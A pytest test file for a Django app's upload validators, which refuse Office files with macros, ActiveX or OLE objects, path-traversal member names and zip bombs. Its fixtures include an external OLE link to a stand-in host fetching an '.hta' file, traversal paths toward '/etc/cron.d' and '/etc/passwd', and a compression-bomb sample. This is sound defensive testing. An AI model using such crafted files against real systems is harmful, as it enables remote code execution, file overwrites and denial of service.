"""Office files and other zip containers: refused, with the file named and the reason,
when they hold macros, ActiveX controls or OLE objects, when a member's path could
write outside the folder it is unpacked into, or when they have too many members or
unpack to too much. The structure is judged without decompressing anything."""

import io
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from thidua.core.uploads import validate_evidence, validate_spreadsheet
from thidua.plans.loading import load_plan

CONTENT_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Override PartName="/{part}" ContentType="{kind}"/></Types>'
)
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
OLE_RELS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId9" TargetMode="External" Target="http://evil.example/x.hta" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject"/></Relationships>'
)
LINK_RELS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" TargetMode="External" Target="https://stp.tuyenquang.gov.vn" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"/></Relationships>'
)


def office(*extra: tuple[str, bytes | str], prefix="word/", kind=DOCX_MAIN) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES.format(part=f"{prefix}document.xml", kind=kind))
        archive.writestr(f"{prefix}document.xml", "<x/>")
        for name, content in extra:
            archive.writestr(name, content)
    return buffer.getvalue()


def refusal(name: str, content: bytes, check=validate_evidence) -> str:
    with pytest.raises(ValidationError) as error:
        check(SimpleUploadedFile(name, content))
    message = error.value.messages[0]
    assert f"«{name}»" in message
    return message


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("bao-cao.docx", office(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0"))),
        ("doi-duoi.docx", office(kind=DOCM_MAIN)),
        (
            "so-lieu.xlsx",
            office(
                ("xl/vbaProject.bin", b"x"), prefix="xl/", kind="application/vnd.ms-excel.sheet.macroEnabled.main+xml"
            ),
        ),
        ("excel4.xlsx", office(("xl/macrosheets/sheet1.xml", "<x/>"), prefix="xl/")),
        ("trinh-chieu.pptx", office(("ppt/vbaProject.bin", b"x"), prefix="ppt/")),
    ],
)
def test_macros_are_refused(name, content):
    message = refusal(name, content)
    assert "có chứa macro" in message and "không có macro" in message


def test_activex_controls_are_refused():
    message = refusal(
        "bieu-mau.docx", office(("word/activeX/activeX1.xml", "<ax/>"), ("word/activeX/activeX1.bin", b"x"))
    )
    assert "điều khiển ActiveX" in message


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("nhung.pptx", office(("ppt/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0"), prefix="ppt/")),
        ("lien-ket.docx", office(("word/_rels/document.xml.rels", OLE_RELS))),
    ],
)
def test_ole_objects_embedded_or_linked_are_refused(name, content):
    assert "đối tượng OLE" in refusal(name, content)


def test_a_chart_workbook_and_hyperlinks_are_not_active_content():
    validate_evidence(
        SimpleUploadedFile(
            "bieu-do.docx",
            office(
                ("word/embeddings/Microsoft_Excel_Worksheet.xlsx", b"PK"), ("word/_rels/document.xml.rels", LINK_RELS)
            ),
        )
    )


@pytest.mark.parametrize(
    "member",
    [
        "../../etc/cron.d/x",
        "word/../../x.xml",
        "/etc/passwd",
        "C:/Windows/x.dll",
        "\\\\server\\share\\x",
        "word\\..\\..\\x",
    ],
)
def test_member_paths_that_leave_the_folder_are_refused(member):
    message = refusal("duong-dan.docx", office((member, "x")))
    assert "đường dẫn không hợp lệ" in message and member[:20] in message


def test_a_name_with_two_dots_inside_is_not_a_path_outside():
    validate_evidence(SimpleUploadedFile("hai-cham.docx", office(("word/media/anh..png", b"x"))))


def test_more_than_a_thousand_members_are_refused():
    content = office(*((f"word/media/a{i}.xml", "") for i in range(1000)))
    assert "1002 thành phần bên trong, nhiều hơn mức cho phép (1000)" in refusal("nhieu.docx", content)


def test_a_zip_that_unpacks_past_ten_times_the_limit_is_refused_without_decompressing(settings, monkeypatch):
    settings.MAX_UPLOAD_MB = 1
    content = office(("word/media/bomb.bin", b"\0" * (11 * 1024 * 1024)))
    assert len(content) < 100 * 1024  # a small upload...

    def never(*args, **kwargs):
        raise AssertionError("a member was decompressed")

    monkeypatch.setattr(zipfile.ZipFile, "open", never)
    message = refusal("bom.docx", content)  # ...that declares 11 MB unpacked
    assert "khi giải nén nặng 11 MB, vượt mức cho phép 10 MB" in message


def test_just_under_ten_times_the_limit_passes(settings):
    settings.MAX_UPLOAD_MB = 1
    validate_evidence(SimpleUploadedFile("vua.docx", office(("word/media/a.bin", b"\0" * (9 * 1024 * 1024)))))


def test_a_damaged_part_that_says_what_the_file_holds_is_refused():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES.format(part="word/document.xml", kind=DOCM_MAIN))
        archive.writestr("word/document.xml", "<x/>")
    damaged = buffer.getvalue().replace(b"macroEnabled", b"macroEnablex", 1)  # the checksum no longer matches
    assert "bị hỏng: không đọc được phần «[Content_Types].xml»" in refusal("hong.docx", damaged)


def test_legacy_office_formats_are_not_taken():
    ole2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
    for name in ("cu.doc", "cu.xls", "cu.ppt", "nen.zip", "so-lieu.xlsm", "bao-cao.docm"):
        assert "không thuộc loại được nhận" in refusal(name, ole2)


def test_spreadsheets_to_import_get_the_same_checks():
    assert "có chứa macro" in refusal(
        "nhap.xlsx", office(("xl/vbaProject.bin", b"x"), prefix="xl/"), check=validate_spreadsheet
    )
    validate_spreadsheet(SimpleUploadedFile("khong-phai-zip.xlsx", b"junk"))  # left to the import to explain


@pytest.mark.django_db
def test_the_import_pages_refuse_a_workbook_with_macros(org, client_for):
    content = office(("xl/vbaProject.bin", b"x"), prefix="xl/")
    load_plan()
    client = client_for(org.users.officer)
    page = client.post(reverse("import_organization"), {"file": SimpleUploadedFile("don-vi.xlsx", content)})
    assert "Tệp «don-vi.xlsx» có chứa macro" in page.content.decode()
    page = client.post(
        reverse("indicator_values_import", args=[org.units.a.pk]), {"file": SimpleUploadedFile("so-lieu.xlsx", content)}
    )
    assert "Tệp «so-lieu.xlsx» có chứa macro" in page.content.decode()
